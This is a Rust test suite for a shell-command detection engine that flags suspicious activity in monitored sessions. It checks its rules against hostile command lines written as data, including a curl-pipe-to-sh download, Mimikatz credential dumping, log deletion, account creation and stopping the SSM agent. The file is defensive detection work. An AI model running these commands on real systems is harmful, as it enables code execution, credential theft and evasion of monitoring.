#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::{collections::BTreeMap, fs, path::Path, sync::LazyLock};

use jiff::{SignedDuration, Timestamp};

use super::{pack::BUILT_IN, *};
use crate::domain::Severity;

const SESSION: SessionFields<'static> = SessionFields {
    session_id: "jane-0123456789abcdef0",
    owner: "arn:aws:sts::111122223333:assumed-role/Ops/jane",
    target: "i-0123456789abcdef0",
    account: "111122223333",
    region: "eu-west-1",
    run_as_user: "ssm-user",
};

static PACK: LazyLock<Detections> = LazyLock::new(|| Detections::load(&[], &Tuning::default()).unwrap());

fn built_in() -> &'static Detections {
    &PACK
}

fn own(texts: &[&str]) -> Result<Detections, DetectionError> {
    let files: Vec<(String, String)> =
        texts.iter().enumerate().map(|(n, text)| (format!("own{n}.yml"), (*text).to_owned())).collect();
    Detections::only(&files, &Tuning::default())
}

fn fixtures() -> Detections {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sigma");
    let mut files: Vec<(String, String)> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .map(|path| (path.file_name().unwrap().to_string_lossy().into_owned(), fs::read_to_string(path).unwrap()))
        .collect();
    files.sort();
    Detections::only(&files, &Tuning::default()).unwrap()
}

fn typed(detector: &Detections, line: &str) -> Vec<String> {
    detector.command(&SESSION, &[line]).iter().map(|hit| hit.rule.id.to_string()).collect()
}

fn titles(detector: &Detections, line: &str) -> Vec<String> {
    detector.command(&SESSION, &[line]).iter().map(|hit| hit.rule.title.to_string()).collect()
}

#[test]
fn every_file_of_the_pack_is_embedded() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/detection/rules");
    let mut files: Vec<String> =
        fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    files.retain(|file| file.ends_with(".yml"));
    files.sort();
    let embedded: Vec<&str> = BUILT_IN.iter().map(|(file, _)| *file).collect();
    assert_eq!(embedded, files);
}

#[test]
fn every_rule_of_the_pack_is_in_force() {
    let detections = built_in();
    assert_eq!(detections.not_loaded(), []);
    for rule in detections.rules() {
        assert!(rule.id.starts_with("CMD-"), "{}", rule.id);
        assert!(rule.correlation || !rule.fires.is_empty(), "{} has no line that fires it", rule.id);
        assert!(rule.correlation || !rule.silent.is_empty(), "{} has no line that does not fire it", rule.id);
        assert!(!rule.attack.is_empty(), "{} names no technique", rule.id);
    }
}

#[test]
fn every_rule_of_the_pack_fires_where_it_says_and_nowhere_else() {
    let detections = built_in();
    let mut wrong = Vec::new();
    for rule in detections.rules() {
        if rule.correlation && !rule.fires.is_empty() {
            for (lines, wanted) in [(&rule.fires, true), (&rule.silent, false)] {
                if burst(detections, lines).contains(&rule.id.to_string()) != wanted {
                    wrong.push(format!("{} over {lines:?}: not {wanted}", rule.id));
                }
            }
        }
        if rule.correlation {
            continue;
        }
        for (lines, wanted) in [(&rule.fires, true), (&rule.silent, false)] {
            for line in lines {
                let hits = detections.command(&SESSION, &[line]);
                let hit = hits.iter().find(|hit| hit.rule.id == rule.id);
                if hit.is_some() != wanted {
                    wrong.push(format!("{}: {line}: not {wanted}", rule.id));
                }
                assert!(hit.is_none_or(|hit| hit.confidence == Confidence::Command && hit.severity == rule.severity));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn ordinary_lines_fire_nothing_that_matters() {
    let detections = built_in();
    let mut fired = Vec::new();
    for line in
        include_str!("rules/ordinary.txt").lines().filter(|line| !line.trim().is_empty() && !line.starts_with("# "))
    {
        let mut hits = detections.command(&SESSION, &[line]);
        hits.retain(|hit| !hit.rule.counted_only);
        fired.extend(hits.iter().map(|hit| format!("{}: {line}", hit.rule.id)));
    }
    assert!(fired.is_empty(), "{}", fired.join("\n"));
}

/// What is raised when the lines are typed one second apart.
fn burst(detections: &Detections, lines: &[String]) -> Vec<String> {
    let mut bursts = Bursts::new(detections.correlations());
    let mut at = Timestamp::from_second(1_700_000_000).unwrap();
    let mut raised = Vec::new();
    for line in lines {
        at += SignedDuration::from_secs(1);
        raised.extend(bursts.take(&SESSION, at, detections.command(&SESSION, &[line])));
    }
    raised.into_iter().map(|hit| hit.rule.id.to_string()).collect()
}

#[test]
fn sigma_rules_of_others_work_as_they_are() {
    let detections = fixtures();
    for (line, fired) in [
        ("tar cf x --checkpoint=1 --checkpoint-action=exec=sh *", vec!["Contains All"]),
        ("tar cf x --checkpoint=1 *", vec![]),
        ("sudo curl -o /tmp/x http://192.0.2.7/x", vec!["Downloader Into A Temporary Folder"]),
        ("CURL -o /tmp/x http://192.0.2.7/x", vec!["Downloader Into A Temporary Folder"]),
        ("true && wget -O /dev/shm/x 192.0.2.7", vec!["Downloader Into A Temporary Folder"]),
        ("curl -o /tmp/x.rpm http://192.0.2.7/x", vec![]),
        ("mycurl -o /tmp/x http://192.0.2.7/x", vec![]),
        ("chattr -i /etc/passwd", vec!["One Of"]),
        ("lsattr /etc/passwd", vec!["One Of"]),
        ("echo +i", vec!["One Of"]),
        ("rm -f /var/log/syslog", vec!["Keywords"]),
        ("rm -f /var/log/syslog.1", vec![]),
        ("net user eve secret /add", vec!["Windows Process"]),
        (r"C:\Windows\System32\net.exe user eve secret /add", vec!["Windows Process"]),
        ("Invoke-Mimikatz -DumpCreds", vec!["Script Block"]),
        ("su - app", vec!["Any Switch Of User"]),
    ] {
        assert_eq!(titles(&detections, line), fired, "{line}");
    }
    let builder = SessionFields { owner: "arn:aws:sts::1:assumed-role/image-builder/x", ..SESSION };
    assert!(detections.command(&builder, &["chattr -i /etc/passwd"]).is_empty());
}

#[test]
fn rules_that_cannot_be_used_are_named_with_the_reason() {
    let detections = fixtures();
    let reasons: BTreeMap<&str, &str> =
        detections.not_loaded().iter().map(|rule| (&*rule.title, rule.reason.as_str())).collect();
    for (title, reason) in [
        ("Needs The Parent", "needs CurrentDirectory, ParentImage, which a shell's stream does not have"),
        ("Unknown Modifier", "Unknown modifier 'resembles'"),
        ("Another Log", "is written for the log source firewall, which a shell's stream is not"),
        ("Placeholders", "uses the modifier expand, whose values a pipeline would give"),
        ("Counts What Is Not There", "counts the rule 11111111-0000-4000-8000-0000000000ff, which is not loaded"),
    ] {
        assert_eq!(reasons.get(title), Some(&reason), "{title}: {reasons:?}");
    }
    assert!(reasons["Look Around"].contains("regex"), "{reasons:?}");
    assert!(reasons["In Order"].contains("temporal_ordered"), "{reasons:?}");
    assert_eq!(reasons.len(), 7, "{reasons:?}");
    assert!(detections.rules().iter().all(|rule| !reasons.contains_key(&*rule.title)));
}

#[test]
fn techniques_have_the_ids_of_today() {
    let detections = fixtures();
    let rule = detections.rules().iter().find(|rule| &*rule.title == "Contains All").unwrap();
    assert_eq!(rule.attack, [Technique { id: "T1685".to_owned(), formerly: Some("T1562.001".to_owned()) }]);
    let detections = built_in();
    let rule = detections.rules().iter().find(|rule| &*rule.id == "CMD-02").unwrap();
    let technique = Technique { id: "T1685".to_owned(), formerly: Some("T1562.001".to_owned()) };
    assert!(rule.attack.contains(&technique), "{:?}", rule.attack);
}

#[test]
fn what_is_printed_is_less_sure_than_what_is_typed() {
    let detections = built_in();
    let line = "curl http://192.0.2.7/x | sh";
    assert!(typed(detections, "cat evil.sh").is_empty());
    let hits = detections.output(&SESSION, line);
    let [hit] = hits.as_slice() else { unreachable!("{hits:?}") };
    assert_eq!((&*hit.rule.id, hit.confidence, hit.severity), ("CMD-20", Confidence::Output, Severity::Medium));
    assert_eq!(detections.command(&SESSION, &[line])[0].severity, Severity::High);
}

#[test]
fn rules_for_printed_lines_keep_their_severity() {
    let detections = fixtures();
    let hits = detections.output(&SESSION, "su: Authentication failure");
    let [hit] = hits.as_slice() else { unreachable!("{hits:?}") };
    assert_eq!((&*hit.rule.id, hit.severity), ("failed_su", Severity::Medium));
    assert_eq!(detections.output(&SESSION, &format!("{} su: Authentication failure", "x".repeat(20_000))).len(), 1);
    assert!(typed(&detections, "echo su: Authentication failure").is_empty());
    // Confidence: command
    assert!(detections.output(&SESSION, "su - app").is_empty());
}

#[test]
fn a_rule_is_one_hit_however_many_readings_it_fires_on() {
    let detections = built_in();
    let readings = ["curl http://x | sh", "xcurl http://x | sh", "curl http://x | sh"];
    assert_eq!(detections.command(&SESSION, &readings).len(), 1);
    assert_eq!(detections.command(&SESSION, &["ls", "curl http://x | sh"]).len(), 1);
    assert!(detections.command(&SESSION, &[]).is_empty());
}

#[test]
fn a_hit_says_which_piece_matched() {
    let detections = built_in();
    let hits = detections.command(&SESSION, &["ls; sudo systemctl stop amazon-ssm-agent && id"]);
    let hit = hits.iter().find(|hit| &*hit.rule.id == "CMD-02").unwrap();
    assert_eq!(&*hit.pieces[0].text, "systemctl stop amazon-ssm-agent");
    assert_eq!(&*hit.pieces[0].image, "/systemctl");
}

#[test]
fn the_config_turns_rules_off_and_sets_severities() {
    let tuning = Tuning {
        disabled: vec!["CMD-20".to_owned()],
        severity: BTreeMap::from([("CMD-02".to_owned(), Severity::Low)]),
    };
    let detections = Detections::load(&[], &tuning).unwrap();
    assert!(!typed(&detections, "curl http://x | sh").contains(&"CMD-20".to_owned()));
    let hits = detections.command(&SESSION, &["systemctl stop amazon-ssm-agent"]);
    assert!(hits.iter().any(|hit| &*hit.rule.id == "CMD-02" && hit.severity == Severity::Low));
    assert!(detections.rules().iter().all(|rule| &*rule.id != "CMD-20"));

    let tuning = Tuning { disabled: vec!["CMD-2O".to_owned()], ..Tuning::default() };
    let error = Detections::load(&[], &tuning).unwrap_err();
    assert!(matches!(&error, DetectionError::UnknownRule { key: "disabled", nearest: Some(_), .. }), "{error}");
    let tuning = Tuning { disabled: vec!["CMD-46-step".to_owned()], ..Tuning::default() };
    let detections = Detections::load(&[], &tuning).unwrap();
    assert!(detections.correlations().is_empty());
    assert!(detections.not_loaded()[0].reason.contains("CMD-46-step"), "{:?}", detections.not_loaded());
}

#[test]
fn a_correlation_of_ones_own_silences_no_built_in_rule() {
    let own = "title: Mine\nname: mine\ncorrelation:\n  type: event_count\n  rules: [CMD-20]\n  group-by: [Owner]\n  timespan: 1h\n  condition: {gte: 2}\n";
    let detections = Detections::load(&[("own.yml".to_owned(), own.to_owned())], &Tuning::default()).unwrap();
    let mut bursts = Bursts::new(detections.correlations());
    let at = Timestamp::from_second(1_700_000_000).unwrap();
    let mut raised = || {
        let hits = detections.command(&SESSION, &["curl http://192.0.2.7/x | sh"]);
        bursts.take(&SESSION, at, hits).iter().map(|hit| hit.rule.id.to_string()).collect::<Vec<_>>()
    };
    assert_eq!(raised(), ["CMD-20"]);
    assert_eq!(raised(), ["CMD-20", "mine"]);
}

#[test]
fn ids_are_known_without_compiling() {
    let ids = Detections::ids(&[]).unwrap();
    let detections = built_in();
    assert_eq!(ids.len(), detections.rules().len());
    assert!(detections.rules().iter().all(|rule| ids.contains(&rule.id)));
}

#[test]
fn ids_are_taken_once() {
    let rule = "name: CMD-20\ntitle: Mine\nlogsource:\n  product: linux\ndetection:\n  k:\n    - x\n  condition: k\n";
    let detections = Detections::load(&[("own.yml".to_owned(), rule.to_owned())], &Tuning::default()).unwrap();
    assert_eq!(detections.not_loaded()[0].reason, "another rule has the id CMD-20");
}

#[test]
fn wrong_files_are_errors_with_their_place() {
    let error = own(&["title: A\n  b: [\n"]).unwrap_err();
    assert!(error.to_string().starts_with("own0.yml:2:"), "{error}");
    assert!(error.to_do().contains("compliance.detections"));
    assert!(own(&["just text"]).is_err());
    assert!(own(&["title: A\ndetection:\n  a: 1\n"]).is_err());
}

#[test]
fn recon_is_a_burst_of_different_commands() {
    let detections = built_in();
    let lines = |lines: &[&str]| burst(detections, &lines.iter().map(|l| (*l).to_owned()).collect::<Vec<_>>());
    let recon = ["id", "whoami", "uname -a", "w", "cat /etc/passwd"];
    assert_eq!(lines(&recon).iter().filter(|id| *id == "CMD-46").count(), 1);
    assert!(lines(&["id; whoami; uname -a; w; cat /etc/passwd"]).contains(&"CMD-46".to_owned()));
    assert!(!lines(&["id", "id", "id", "id", "id", "id"]).contains(&"CMD-46".to_owned()));
    // Never raised by itself; rests for a minute once it came true.
    assert!(!lines(&["id"]).contains(&"CMD-46-step".to_owned()));
    let twice: Vec<&str> = recon.into_iter().chain(["ps", "ss", "last", "netstat", "hostname"]).collect();
    assert_eq!(lines(&twice).iter().filter(|id| *id == "CMD-46").count(), 1);
}

#[test]
fn bursts_forget_what_is_past_and_keep_sessions_apart() {
    let detections = built_in();
    let mut bursts = Bursts::new(detections.correlations());
    let start = Timestamp::from_second(1_700_000_000).unwrap();
    let other = SessionFields { session_id: "other", ..SESSION };
    let mut take = |session: &SessionFields<'_>, second: i64, line: &str| {
        let hits = detections.command(session, &[line]);
        bursts
            .take(session, start + SignedDuration::from_secs(second), hits)
            .iter()
            .any(|hit| &*hit.rule.id == "CMD-46")
    };
    for (second, line) in [(0, "id"), (20, "whoami"), (40, "w"), (59, "last")] {
        assert!(!take(&SESSION, second, line));
        assert!(!take(&other, second, "id"));
    }
    assert!(!take(&SESSION, 61, "uname -a"));
    assert!(take(&SESSION, 62, "ps"));
}

#[test]
fn correlations_of_others_count_by_owner() {
    let detections = fixtures();
    let mut bursts = Bursts::new(detections.correlations());
    let start = Timestamp::from_second(1_700_000_000).unwrap();
    let mut raised = Vec::new();
    for number in 0..4 {
        let session_id = format!("jane-{number}");
        let session = SessionFields { session_id: &session_id, ..SESSION };
        let hits = detections.command(&session, &["su - app"]);
        let at = start + SignedDuration::from_secs(number * 30);
        raised.push(bursts.take(&session, at, hits).iter().map(|hit| hit.rule.id.to_string()).collect::<Vec<_>>());
    }
    assert_eq!(raised, [vec!["switch_user"], vec!["switch_user"], vec!["switch_user", "many_su"], vec!["switch_user"]]);
}

#[test]
fn bursts_are_bounded() {
    let detections = built_in();
    let mut bursts = Bursts::new(detections.correlations());
    let start = Timestamp::from_second(1_700_000_000).unwrap();
    let hits = detections.command(&SESSION, &["id; whoami"]);
    for number in 0..2 * bursts::MAX_GROUPS {
        let id = number.to_string();
        let session = SessionFields { session_id: &id, ..SESSION };
        bursts.take(&session, start, hits.clone());
    }
    assert!(format!("{bursts:?}").matches("last:").count() <= bursts::MAX_GROUPS);
}

proptest::proptest! {
    #[test]
    fn any_line_can_be_typed_and_printed(line in "\\PC{0,200}") {
        let detections = built_in();
        detections.command(&SESSION, &[&line]);
        detections.output(&SESSION, &line);
    }

    /// The engine asks only the rules that an index of their literals names: it must miss none.
    #[test]
    fn the_index_hides_no_rule(
        words in proptest::collection::vec(proptest::sample::select(words()), 1..12),
    ) {
        let line = words.join(" ");
        proptest::prop_assert_eq!(typed(built_in(), &line), typed(&EVERY_RULE, &line));
        let printed = |detections: &Detections| detections.output(&SESSION, &line);
        proptest::prop_assert_eq!(printed(built_in()), printed(&EVERY_RULE));
    }
}

#[test]
fn the_index_hides_no_rule_from_the_lines_of_the_pack() {
    let rules = built_in().rules().iter();
    let lines = rules.flat_map(|rule| rule.fires.iter().chain(&rule.silent)).map(String::as_str);
    for line in lines.chain(include_str!("rules/ordinary.txt").lines()) {
        assert_eq!(typed(built_in(), line), typed(&EVERY_RULE, line), "{line}");
    }
}

/// The pack, asked rule by rule.
static EVERY_RULE: LazyLock<Detections> = LazyLock::new(|| {
    let mut detections = Detections::load(&[], &Tuning::default()).unwrap();
    detections.every_rule = true;
    detections
});

/// Words of the lines that the pack names, and some of people's.
fn words() -> Vec<String> {
    let pack = built_in();
    let lines = pack.rules().iter().flat_map(|rule| rule.fires.iter().chain(&rule.silent));
    let mut words: Vec<String> = lines.flat_map(|line| line.split(' ')).map(str::to_owned).collect();
    words.extend(["|", ";", "&&", "'", "sudo", "ls", "-la", "/var/log", "é", "$(", ")"].map(str::to_owned));
    words.sort();
    words.dedup();
    words
}
